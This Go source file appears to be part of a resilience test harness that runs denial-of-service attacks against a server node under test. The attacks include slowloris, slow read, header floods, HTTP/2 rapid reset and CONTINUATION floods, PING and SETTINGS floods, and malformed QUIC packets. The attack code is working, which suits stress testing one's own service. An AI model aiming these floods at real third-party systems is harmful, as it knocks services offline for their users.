package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"time"

	"github.com/quic-go/quic-go"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack does something hostile to the node, over and over, until ctx ends.
type attack struct {
	name    string
	workers int
	every   time.Duration // a worker's pause
	once    func(ctx context.Context, n *loadedNode)
}

var attacks = []attack{
	{"slowloris", 300, 0, func(ctx context.Context, n *loadedNode) {
		c := n.connect()
		if c == nil {
			return
		}
		defer c.Close()
		fmt.Fprint(c, "GET / HTTP/1.1\r\nHost: a\r\n")
		for i := 0; ctx.Err() == nil; i++ {
			select {
			case <-time.After(200 * time.Millisecond):
			case <-ctx.Done():
			}
			if _, err := fmt.Fprintf(c, "X-%d: a\r\n", i); err != nil {
				return
			}
		}
	}},
	{"slow read", 100, 0, func(ctx context.Context, n *loadedNode) {
		c := n.connect()
		if c == nil {
			return
		}
		defer c.Close()
		_ = c.(*net.TCPConn).SetReadBuffer(4 << 10)
		fmt.Fprint(c, "GET /large HTTP/1.1\r\nHost: a\r\n\r\n")
		<-ctx.Done()
	}},
	{"connections", 16, 20 * time.Millisecond, func(_ context.Context, n *loadedNode) {
		if c := n.connect(); c != nil {
			c.Close()
		}
	}},
	{"header flood", 8, 50 * time.Millisecond, func(_ context.Context, n *loadedNode) {
		c := n.connect()
		if c == nil {
			return
		}
		defer c.Close()
		fmt.Fprint(c, "GET / HTTP/1.1\r\nHost: a\r\n")
		line := "X-Filler: " + strings.Repeat("a", 1000) + "\r\n"
		for range 200 { // three times what is allowed
			if _, err := io.WriteString(c, line); err != nil {
				return
			}
		}
	}},
	{"rapid reset", 4, 250 * time.Millisecond, func(ctx context.Context, n *loadedNode) {
		n.frames(ctx, func(f *http2.Framer, stream uint32, block []byte) error {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			return f.WriteRSTStream(stream, http2.ErrCodeCancel)
		})
	}},
	{"continuation", 4, 250 * time.Millisecond, func(ctx context.Context, n *loadedNode) {
		first := true
		n.frames(ctx, func(f *http2.Framer, _ uint32, block []byte) error {
			if first {
				first = false
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
			}
			return f.WriteContinuation(1, false, nil)
		})
	}},
	{"ping and settings", 4, 250 * time.Millisecond, func(ctx context.Context, n *loadedNode) {
		n.frames(ctx, func(f *http2.Framer, stream uint32, _ []byte) error {
			if stream%4 == 1 {
				return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: stream})
			}
			return f.WritePing(false, [8]byte{byte(stream)})
		})
	}},
	{"QUIC handshakes", 8, 50 * time.Millisecond, func(ctx context.Context, n *loadedNode) {
		ctx, cancel := context.WithTimeout(ctx, 5*time.Millisecond) // gone before the handshake is over
		defer cancel()
		conf := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h3"}}
		if c, err := quic.DialAddr(ctx, strings.TrimPrefix(n.tls, "https://"), conf, nil); err == nil {
			_ = c.CloseWithError(0, "")
		}
	}},
	{"QUIC garbage", 2, 20 * time.Millisecond, func(_ context.Context, n *loadedNode) {
		c, err := net.Dial("udp", strings.TrimPrefix(n.tls, "https://"))
		if err != nil {
			return
		}
		defer c.Close()
		packet := make([]byte, 1200)
		for range 100 {
			for i := range packet {
				packet[i] = byte(rand.Uint32())
			}
			copy(packet, []byte{0xc3, 0, 0, 0, 1, 8}) // an Initial of version 1
			_, _ = c.Write(packet)                    // one lost is as good
		}
	}},
}

func (n *loadedNode) connect() net.Conn {
	c, err := net.DialTimeout("tcp", strings.TrimPrefix(n.url, "http://"), time.Second)
	if err != nil {
		return nil
	}
	_ = c.SetDeadline(time.Now().Add(time.Minute))
	return c
}

// frames speaks HTTP/2 by prior knowledge and calls send with a new stream's
// number, again and again, until the node or ctx ends it.
func (n *loadedNode) frames(ctx context.Context, send func(f *http2.Framer, stream uint32, block []byte) error) {
	c := n.connect()
	if c == nil {
		return
	}
	defer c.Close()
	go io.Copy(io.Discard, c)
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "a"}, {":path", "/"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // a buffer takes all
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return
	}
	f := http2.NewFramer(c, c)
	if f.WriteSettings() != nil {
		return
	}
	for stream := uint32(1); ctx.Err() == nil; stream += 2 {
		if send(f, stream, block.Bytes()) != nil {
			return
		}
	}
}
